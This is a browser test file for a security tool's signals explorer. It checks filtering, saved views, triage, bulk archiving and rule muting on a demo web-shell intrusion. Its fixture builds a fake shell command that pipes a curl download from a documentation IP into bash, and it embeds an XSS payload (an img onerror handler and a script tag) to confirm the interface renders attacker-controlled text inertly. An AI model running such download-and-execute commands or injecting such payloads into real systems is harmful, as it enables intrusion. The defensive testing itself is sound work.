// The signals explorer in Chromium, on the demo case (the intrusion on web-01 raised its signals as the
// recording was ingested) plus one signal from a hostile command line imported through the real ingest and
// detection path. Facets narrow the table and say so in the address; a row opens the signal's page and
// the back button returns; the highlighted signal's essentials sit beside the list; a saved view brings its
// filters back; three signals are archived at once and rules muted; dragging across the histogram narrows
// the time. Expected numbers come from the case store, not from here.
import type { Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importSensorStream } from '../src-main/ingest/index.ts';
import type { CaseStore } from '../src-main/store/index.ts';
import { parseUtc } from '../src-renderer/views/events/eventsView.ts';
import { screenshotPath, startSession, type Session } from './harness.ts';

let session: Session;
let store: CaseStore;
let web01: number;

const payload = `<img src=x onerror="window.__pwned=1"><script>window.__pwned=2</script>`;

/** A web shell's shell piping a download into bash, with HTML in its command line. */
function hostileStream(tsNs: number): string {
  const args = `-c curl -s http://203.0.113.9/${payload}.sh | bash`;
  // its parent never seen: a process tree of its own, so a signal of its own
  const process = { pid: 31337, ppid: 31336, uid: 33, user: 'www-data', comm: 'sh', file: { path: '/usr/bin/dash', name: 'dash' }, argv: ['-c', args.slice(3)], argv0: 'sh', args, cwd: '/var/www/html', created_at: tsNs - 1000 };
  return [
    JSON.stringify({ type: 'hello', sensor: { version: '0.1.0' }, host: 'web-01', boot_id: 'e2e-signals-hostile' }),
    JSON.stringify({ seq: 1, ts: tsNs, type: 'exec', process, exec: { file: process.file, argv: process.argv, argv0: 'sh', args } }),
  ].join('\n');
}

function countText(n: number): string {
  return `${n.toLocaleString('en-US')} ${n === 1 ? 'signal' : 'signals'}`;
}

async function waitForCount(page: Page, n: number): Promise<void> {
  await page.getByTestId('signals-count').getByText(countText(n), { exact: true }).waitFor();
}

function rows(page: Page) {
  return page.getByTestId('signals-table').locator('tbody tr.vt-data');
}

async function openExplorer(page: Page, query = ''): Promise<void> {
  await page.goto(`${session.host.url.split('#')[0]}#/signals${query}`);
  await page.getByTestId('page-signals').waitFor();
}

async function tick(page: Page, facet: string, value: string): Promise<void> {
  await page.getByTestId(`facet-${facet}`).getByRole('checkbox', { name: value, exact: true }).check();
}

const open = { statuses: ['open' as const] };

beforeAll(async () => {
  session = await startSession();
  store = session.workbench.requireCase();
  web01 = store.listHosts().find((h) => h.name === 'web-01')!.id;
  const newest = store.eventFacets().newestNs!;
  importSensorStream(store, web01, 'web-01', 'hostile.ndjson', hostileStream(newest + 30e9), { detect: session.workbench.detection().forHost(web01) });
  await session.page.goto(session.host.url);
  await session.page.getByTestId('status-case').getByText('Demo: web shell on web-01').waitFor();
});

afterAll(async () => {
  await session?.close();
});

describe('the signals explorer', () => {
  it('lists the open signals, most recent first, with facets counted under the other filters', async () => {
    const { page } = session;
    await page.getByRole('link', { name: 'Signals', exact: true }).click();
    await waitForCount(page, store.countSignals(open));
    const newest = store.listSignals({ ...open, limit: 1 })[0]!;
    await expect(rows(page).first().textContent()).resolves.toContain(newest.rule.id);
    const piped = rows(page).filter({ hasText: 'download_piped_to_shell' }).first();
    await expect(piped.textContent()).resolves.toContain('T1059.004');
    await expect(piped.textContent()).resolves.toContain('Unix Shell'); // the ATT&CK name, from the bundled catalogue
    // the severity facet counts every severity (its own filter aside), the others only open signals
    const facets = store.signalFacets(open);
    for (const { value, count } of facets.severities) {
      await expect(page.getByTestId('facet-severity').locator('li', { hasText: value }).locator('.facet-count').textContent()).resolves.toBe(String(count));
    }
    await page.screenshot({ path: screenshotPath('signals-explorer-light') });
    await page.getByTestId('theme-toggle').click();
    await page.screenshot({ path: screenshotPath('signals-explorer-dark') });
    await page.getByTestId('theme-toggle').click();
  });

  it('narrows the table by facets, and keeps them in the address across a reload', async () => {
    const { page } = session;
    await tick(page, 'severity', 'critical');
    const critical = store.countSignals({ ...open, severities: ['critical'] });
    expect(critical).toBeGreaterThan(0);
    await waitForCount(page, critical);
    for (const text of await rows(page).allTextContents()) expect(text.toLowerCase()).toContain('critical');
    await tick(page, 'severity', 'high');
    const technique = store.signalFacets({ ...open, severities: ['critical', 'high'] }).techniques.find((t) => t.count > 1)!;
    await page.getByTestId('facet-technique').getByRole('checkbox', { name: new RegExp(`^${technique.value.replace('.', '\\.')} `) }).check();
    const narrowed = store.countSignals({ ...open, severities: ['critical', 'high'], techniques: [technique.value] });
    await waitForCount(page, narrowed);
    expect(page.url()).toContain('severity=critical%2Chigh');
    expect(page.url()).toContain(`technique=${technique.value}`);
    // the technique facet still offers the others, counted as if they were ticked too
    const others = store.signalFacets({ ...open, severities: ['critical', 'high'], techniques: [technique.value] }).techniques;
    expect(others.length).toBeGreaterThan(1);
    await expect.poll(() => page.getByTestId('facet-technique').locator('li').count()).toBe(Math.min(others.length, 8));

    await page.reload();
    await waitForCount(page, narrowed);
    await expect(page.getByTestId('facet-severity').getByRole('checkbox', { name: 'critical', exact: true }).isChecked()).resolves.toBe(true);
    // the back button undoes one facet at a time
    await page.goBack();
    await waitForCount(page, store.countSignals({ ...open, severities: ['critical', 'high'] }));
    await page.screenshot({ path: screenshotPath('signals-facets') });
  });

  it('searches rule names, descriptions and processes', async () => {
    const { page } = session;
    await openExplorer(page);
    await page.getByRole('searchbox', { name: 'Search signals' }).fill('HISTORY file');
    const matching = store.countSignals({ ...open, text: 'HISTORY file' });
    expect(matching).toBeGreaterThan(0);
    await waitForCount(page, matching);
    expect(page.url()).toContain('q=HISTORY+file');
  });

  it('opens a signal on its own page from its row, and the back button returns to the list as it was', async () => {
    const { page } = session;
    const selection = { ...open, severities: ['high' as const], text: 'x.sh' };
    await openExplorer(page, '?severity=high&q=x.sh');
    await waitForCount(page, store.countSignals(selection));
    const signal = store.listSignals({ ...selection, ruleId: 'download_piped_to_shell', limit: 1 })[0]!;
    await rows(page).filter({ hasText: 'download_piped_to_shell' }).first().click();
    await page.waitForURL((url) => url.hash === `#/signals/${signal.id}`);
    await page.goBack();
    await waitForCount(page, store.countSignals(selection));
    const address = new URLSearchParams(new URL(page.url()).hash.split('?')[1]);
    expect(Object.fromEntries(address)).toEqual({ q: 'x.sh', severity: 'high', signal: String(signal.id) });
    // the row opened is the one highlighted, with its essentials beside the list
    await expect(page.getByTestId('signals-table').locator('tr[aria-selected="true"]').textContent()).resolves.toContain('download_piped_to_shell');
    const peek = page.getByTestId('signal-peek');
    await peek.getByRole('heading', { name: 'download_piped_to_shell' }).waitFor();
    await expect(peek.textContent()).resolves.toContain('curl -s http://203.0.113.45/x.sh | bash');
    await expect(peek.textContent()).resolves.toMatch(/Triage.*State.*Notes/s);
    await expect(peek.getByRole('link', { name: /Investigate/ }).getAttribute('href')).resolves.toBe(`#/signals/${signal.id}`);
  });

  it('moves through the list with the keyboard, and triages the highlighted signal beside it', async () => {
    const { page } = session;
    await openExplorer(page, '?rule=download_piped_to_shell&rule=web_server_spawned_shell');
    await waitForCount(page, store.countSignals({ ...open, ruleIds: ['download_piped_to_shell', 'web_server_spawned_shell'] }));
    await page.getByRole('grid', { name: 'Signals' }).focus();
    await page.keyboard.press('ArrowDown');
    const peek = page.getByTestId('signal-peek');
    const first = store.listSignals({ ...open, ruleIds: ['download_piped_to_shell', 'web_server_spawned_shell'], limit: 1 })[0]!;
    await peek.getByRole('heading', { name: first.rule.id }).waitFor();
    await peek.getByRole('textbox', { name: 'Note' }).fill('x.sh fetched the implant <b>kworkerd</b>');
    await peek.getByRole('button', { name: 'Add', exact: true }).click();
    await peek.getByText('x.sh fetched the implant <b>kworkerd</b>').waitFor(); // shown as typed, not as HTML
    await peek.getByRole('group', { name: 'Set status' }).getByRole('button', { name: 'Under review' }).click();
    await expect.poll(() => store.getSignal(first.id)!.status).toBe('under_review');
    await page.screenshot({ path: screenshotPath('signals-peek') });
    await page.getByRole('grid', { name: 'Signals' }).focus();
    await page.keyboard.press('Escape');
    await expect(peek.count()).resolves.toBe(0);
    store.updateSignal(first.id, { status: 'open' }, Date.now());
  });

  it('shows attacker-controlled command lines as text', async () => {
    const { page } = session;
    const hostile = store.listSignals({ text: 'onerror', limit: 5 });
    expect(hostile.map((s) => s.rule.id)).toContain('download_piped_to_shell');
    await openExplorer(page, `?q=onerror&signal=${hostile[0]!.id}`);
    await waitForCount(page, hostile.length);
    const peek = page.getByTestId('signal-peek');
    await peek.getByText(payload, { exact: false }).waitFor();
    await expect(page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).resolves.toBeUndefined();
    await expect(page.locator('.signal-peek img, .signal-peek script').count()).resolves.toBe(0);
    await page.screenshot({ path: screenshotPath('signals-hostile') });
  });

  it('saves the filters as a view in the case, and brings them back', async () => {
    const { page } = session;
    await openExplorer(page, '?severity=high&q=curl');
    const saved = store.countSignals({ ...open, severities: ['high'], text: 'curl' });
    await waitForCount(page, saved);
    await page.getByTestId('saved-views').click();
    await page.getByRole('textbox', { name: 'View name' }).fill('Downloads <i>by</i> services');
    await page.getByRole('button', { name: 'Save view' }).click();
    await expect.poll(() => store.listViews('signals').map((v) => v.name)).toEqual(['Downloads <i>by</i> services']);
    await page.screenshot({ path: screenshotPath('signals-saved-views') });
    await page.keyboard.press('Escape');
    await expect(page.getByTestId('saved-views').textContent()).resolves.toContain('Downloads <i>by</i> services');

    await page.getByRole('button', { name: 'Reset filters' }).click();
    await waitForCount(page, store.countSignals(open));
    await expect(page.getByTestId('saved-views').textContent()).resolves.toContain('unsaved');
    await page.reload(); // the view lives in the case, not in the page
    await page.getByTestId('saved-views').click();
    await page.getByRole('button', { name: 'Downloads <i>by</i> services', exact: true }).click();
    await waitForCount(page, saved);
    await expect(page.getByRole('searchbox', { name: 'Search signals' }).inputValue()).resolves.toBe('curl');
    await expect(page.getByTestId('facet-severity').getByRole('checkbox', { name: 'high', exact: true }).isChecked()).resolves.toBe(true);
    expect(page.url()).toContain('severity=high');

    await page.getByTestId('saved-views').click();
    await page.getByRole('button', { name: 'Delete the view Downloads <i>by</i> services' }).click();
    await expect.poll(() => store.listViews('signals')).toEqual([]);
    await page.keyboard.press('Escape');
  });

  it('archives three signals at once, picked with a shift-click', async () => {
    const { page } = session;
    await openExplorer(page);
    const before = store.countSignals(open);
    await waitForCount(page, before);
    const picked = store.listSignals({ ...open, limit: 3 });
    const boxes = page.getByTestId('signals-table').getByRole('checkbox', { name: /^Select signal/ });
    await boxes.nth(0).click();
    await boxes.nth(2).click({ modifiers: ['Shift'] });
    const bar = page.getByTestId('bulk-bar');
    await bar.getByText('3 signals selected').waitFor();
    await page.screenshot({ path: screenshotPath('signals-bulk') });
    await bar.getByRole('button', { name: 'Archive' }).click();
    await page.getByRole('status').getByText('Archived 3 signals.').waitFor();
    await waitForCount(page, before - 3);
    for (const signal of picked) expect(store.getSignal(signal.id)!.status).toBe('archived');
    const archived = page.getByTestId('facet-status').locator('li', { hasText: 'Archived' }).locator('.facet-count');
    await expect.poll(() => archived.textContent()).toBe(String(store.countSignals({ statuses: ['archived'] })));
  });

  it('mutes the rules of every matching signal, with a reason and an end', async () => {
    const { page } = session;
    await openExplorer(page, '?rule=discovery_commands_under_service');
    const matching = store.listSignals({ ...open, ruleIds: ['discovery_commands_under_service'], limit: 100 });
    expect(matching.length).toBeGreaterThan(1);
    await waitForCount(page, matching.length);
    await page.getByRole('checkbox', { name: 'Select all matching signals' }).check();
    const bar = page.getByTestId('bulk-bar');
    await bar.getByText(`All ${matching.length} matching signals selected`).waitFor();
    await bar.getByRole('button', { name: 'Mute rules…' }).click();
    const dialog = page.getByRole('dialog', { name: 'Mute 1 rule' });
    await dialog.getByRole('textbox', { name: 'Mute reason' }).fill('inventory script, ticket OPS-112');
    await dialog.getByRole('combobox', { name: 'Mute for' }).selectOption({ label: '7 days' });
    await page.screenshot({ path: screenshotPath('signals-mute-dialog') });
    await dialog.getByRole('button', { name: 'Mute 1 rule' }).click();
    await page.getByRole('status').getByText(`Muted 1 rule; archived ${matching.length} signals.`).waitFor();
    const mutes = store.listMutes(Date.now()).filter((m) => m.ruleId === 'discovery_commands_under_service');
    expect(mutes).toMatchObject([{ hostId: web01, reason: 'inventory script, ticket OPS-112', active: true }]);
    expect(mutes[0]!.untilMs! - Date.now()).toBeGreaterThan(6.9 * 24 * 3600e3);
    await page.getByTestId('signals-no-matches').waitFor();
  });

  it('narrows the time range by dragging across the histogram, and the back button widens it again', async () => {
    const { page } = session;
    await openExplorer(page, '?status=all');
    const all = store.countSignals({});
    await waitForCount(page, all);
    const chart = page.getByTestId('signal-histogram').locator('svg');
    const box = (await chart.boundingBox())!;
    // from a third of the way to two thirds: a span in the middle of the intrusion
    const y = box.y + box.height / 2;
    await page.mouse.move(box.x + 34 + (box.width - 42) / 3, y);
    await page.mouse.down();
    await page.mouse.move(box.x + 34 + ((box.width - 42) * 2) / 3, y, { steps: 8 });
    await page.mouse.up();
    await page.waitForURL((url) => url.hash.includes('range=custom'));
    const from = parseUtc(await page.getByRole('textbox', { name: 'From (UTC)' }).inputValue())!;
    const to = parseUtc(await page.getByRole('textbox', { name: 'To (UTC)' }).inputValue())!;
    const inside = store.countSignals({ fromNs: from.firstNs, toNs: to.lastNs });
    expect(inside).toBeGreaterThan(0);
    expect(inside).toBeLessThan(all);
    await waitForCount(page, inside);
    await page.screenshot({ path: screenshotPath('signals-brushed') });
    await page.getByTestId('theme-toggle').click();
    await page.screenshot({ path: screenshotPath('signals-brushed-dark') });
    await page.getByTestId('theme-toggle').click();
    await page.goBack();
    await waitForCount(page, all);
    expect(session.problems).toEqual([]);
  });
});
